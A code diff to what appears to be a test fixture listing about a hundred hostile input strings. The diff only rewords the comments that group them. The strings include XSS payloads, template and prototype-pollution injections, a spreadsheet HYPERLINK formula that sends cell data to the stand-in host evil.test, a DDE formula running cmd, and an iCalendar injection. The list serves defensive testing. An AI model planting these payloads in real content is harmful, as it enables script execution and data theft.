@@ -1,6 +1,9 @@
 const PAGE_IN_BASE64 = Buffer.from('<script>xss()</script>').toString('base64')
 
-/** A hundred texts that call `xss()`, load from `evil.test`, or forge something, where a program takes them for more than texts. */
+/**
+ * A hundred texts that call `xss()`, load from `evil.test`, or forge something, if a program interprets them instead of showing
+ * them.
+ */
 export const HOSTILE_TEXTS: readonly string[] = [
   // Scripts.
   '<script>xss()</script>',
@@ -12,7 +15,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<script>xss()//',
   '<svg><script>xss()</script></svg>',
   '<svg><script href=data:,xss() />',
-  // Handlers of events.
+  // Event handlers.
   '<svg onload=xss()>',
   '<img src=x onerror=xss()>',
   '<img/src/onerror=xss()>',
@@ -31,7 +34,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<style onload=xss()></style>',
   '<link rel=stylesheet href=data:, onload=xss()>',
   '<p onpointerenter=xss() style=position:fixed;inset:0>x',
-  // Ways out of an attribute, an element, a comment.
+  // Texts that break out of an attribute, an element or a comment.
   '"><img src=x onerror=xss()>',
   "'><svg onload=xss()>",
   '" onfocus=xss() autofocus x="',
@@ -68,7 +71,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<button form=x formaction=javascript:xss()>x',
   '[x](javascript:xss())',
   '![x](https://evil.test/x.png)',
-  // Pages within the page.
+  // Frames and other embedded pages.
   '<iframe srcdoc="<script>xss()</script>">',
   '<iframe src=javascript:xss()>',
   '<object data="data:text/html,<script>xss()</script>">',
@@ -76,7 +79,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<base href=//evil.test/>',
   '<meta http-equiv=refresh content="0;url=//evil.test/">',
   '<link rel=prefetch href=//evil.test/>',
-  // Pictures and formulas, and what changes when it is written and read again.
+  // Images and formulas, and markup that changes when it is serialized and parsed again (mutation XSS).
   '<svg><animate onbegin=xss() attributeName=x dur=1s>',
   '<svg><a><animate attributeName=href values=javascript:xss() /><text y=20>x',
   '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
@@ -91,7 +94,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '<p style="width:expression(xss())">',
   'red;background:url(//evil.test/x)',
   '}*{background:url(//evil.test/x)}',
-  // Templates, scripts and data that a text is put into.
+  // Texts that break out of templates, scripts and data formats.
   "{{constructor.constructor('xss()')()}}",
   '${xss()}',
   "';xss();//",
@@ -101,16 +104,16 @@ export const HOSTILE_TEXTS: readonly string[] = [
   '\\"}],"x":"<svg onload=xss()>',
   '\\u003csvg onload=xss()\\u003e',
   '__proto__',
-  // Other ways of writing the same.
+  // The same with other encodings.
   '&lt;svg onload=xss()&gt;',
   '&#60;img src=x onerror=xss()&#62;',
   '%3Csvg%20onload=xss()%3E',
   '+ADw-script+AD4-xss()+ADw-/script+AD4-',
   '\u202e<svg onload=xss()>\u202c<\u200bscript>xss()</\u200bscript>',
-  // Cells of spreadsheets and lines of calendars.
+  // Spreadsheet cells and calendar lines.
   '=HYPERLINK("http://evil.test/"&A1,"x")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
   'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged\r\nDESCRIPTION:x',
-  // All at once.
+  // All at once (polyglot).
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=xss() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e',
 ]
